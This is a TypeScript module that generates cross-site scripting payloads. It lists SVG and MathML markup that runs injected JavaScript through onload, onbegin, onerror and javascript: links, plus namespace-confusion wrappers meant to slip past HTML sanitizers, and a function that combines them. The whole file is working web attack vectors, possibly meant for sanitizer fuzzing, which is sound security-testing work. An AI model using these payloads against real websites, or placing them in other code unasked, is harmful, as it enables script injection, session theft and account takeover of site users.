import { CARRIERS, type Make, pairs } from './kit.ts';

/** SVG and MathML that runs code by itself. */
const OWN: readonly Make[] = [
  (run) => `<svg/onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script href="data:text/javascript,${run}"/></svg>`,
  (run) => `<svg><script>&#${run.charCodeAt(0)};${run.slice(1)}</script></svg>`,
  (run) => `<svg><script><![CDATA[${run}]]></script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  (run) => `<svg><set onbegin=${run} attributeName=x dur=1s></svg>`,
  (run) => `<svg><animateTransform onbegin=${run} attributeName=transform dur=1s></svg>`,
  (run) => `<svg><animateMotion onbegin=${run} dur=1s></svg>`,
  (run) => `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`,
  (run) => `<svg><a><set attributeName=href to="javascript:${run}"/><text y=20>x</text></a></svg>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><rect width=9 height=9 /></a></svg>`,
  (run) => `<svg><a href="javascript:${run}"><text y=20>x</text></a></svg>`,
  (run) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run}'/></svg>#x"/></svg>`,
  (run) => `<svg><image href=x onerror=${run} /></svg>`,
  (run) => `<svg><image xlink:href=x onerror=${run}></image></svg>`,
  (run) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  (run) => `<svg><desc><img src=x onerror=${run}></desc></svg>`,
  (run) => `<svg><title><img src=x onerror=${run}></title></svg>`,
  (run) => `<svg><style><img src=x onerror=${run}></style></svg>`,
  (run) => `<svg><p><style><img src=x onerror=${run}></style></p></svg>`,
  (run) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${run}</handler></svg>`,
  (run) => `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  (run) => `<math href="javascript:${run}">x</math>`,
  (run) => `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  (run) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  (run) => `<math><annotation-xml encoding="application/xhtml+xml"><svg onload=${run}></annotation-xml></math>`,
  (run) =>
    `<math><annotation-xml><svg><foreignObject><img src=x onerror=${run}></foreignObject></svg></annotation-xml></math>`,
  (run) => `<math><mi><svg onload=${run}></svg></mi></math>`,
  (run) => `<math><mglyph><svg onload=${run}></mglyph></math>`,
  (run) => `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">x</maction></math>`,
  (run) => `<math><mtext><table><mglyph><style><math><img src=x onerror=${run}>`,
];

/** Elements of another namespace, and places in them where HTML begins again. */
const AROUND: readonly (readonly [before: string, after: string])[] = [
  ['<svg>', '</svg>'],
  ['<svg><g>', '</g></svg>'],
  ['<svg><defs>', '</defs></svg>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<svg><title>', '</title></svg>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<SVG><FOREIGNOBJECT>', ''],
  ['<svg><style>', '</style></svg>'],
  ['<svg></p>', '</svg>'],
  ['<svg></br>', '</svg>'],
  ['<math>', '</math>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><mi>', '</mi></math>'],
  ['<math><ms>', ''],
  ['<math><mtext><mglyph>', ''],
  ['<math><mtext><malignmark>', ''],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<math><annotation-xml>', '</annotation-xml></math>'],
  ['<svg><math>', ''],
  ['<math><svg>', ''],
  ['<svg><switch><foreignObject><math><mtext>', ''],
  ['<svg><a>', '</a></svg>'],
  ['<p><svg><desc></p>', ''],
];

/** SVG and MathML, and the ways back from them into HTML. */
export function foreign(): Make[] {
  const nested = pairs(AROUND, CARRIERS).map(
    ([[before, after], make]): Make =>
      (run) =>
        before + make(run) + after,
  );
  return [...OWN, ...nested];
}
